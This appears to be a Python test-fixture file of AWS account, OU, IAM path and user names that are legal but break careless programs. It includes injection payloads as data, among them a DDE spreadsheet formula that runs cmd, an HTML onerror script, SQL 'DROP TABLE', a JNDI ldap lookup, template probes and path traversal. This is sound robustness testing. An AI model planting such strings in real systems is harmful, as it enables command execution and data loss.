r"""
Names that AWS allows and that break careless programs.

Account and OU names may hold anything (`[\s\S]*`, at most 128 characters); IAM paths every printable
ASCII character but the space; IAM user names only letters, digits and `+=,.@-_`.
"""

HOSTILE_NAMES = (
    '=HYPERLINK("http://example.com","open")',
    "<img/src=x/onerror=alert(1)>",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "\u202ednapxe\u202c-prod",
    "../../../../tmp/account",
    "line one\nline two",
    "bell\x07 escape\x1b[31m null-ish\x01",
    "-2+3+cmd|' /C calc'!A0",
    '"quoted", and, comma',
    "'; DROP TABLE accounts; --",
    "\u0645\u062f\u0641\u0648\u0639\u0627\u062a-prod",
    "N" * 128,
    "   ",
    "NA",
    "\t@SUM(1+1)",
)
"""
For accounts and OUs.
"""

HOSTILE_PATHS = (
    '/a,"b"/',
    "/<img/src=x/onerror=alert(1)>/",
    "/{{7*7}}/",
    "/=1+1/",
    "/../../",
    "/'or'1'='1/",
    "/a//b/",
    "/${jndi:ldap://example.com}/",
    "/a&amp;b;c|d/",
    "/" + "p" * 510 + "/",
)
"""
For IAM users.
"""

HOSTILE_USERS = (
    "=1+1",
    "+441234",
    "-1",
    "@sum",
    "00123",
    "1E5",
    "NA",
    "null",
    "true",
    "smith,john",
    "=a.b@c",
    "u" * 64,
)
"""
Legal IAM user names that sheets and parsers take for something else.
"""
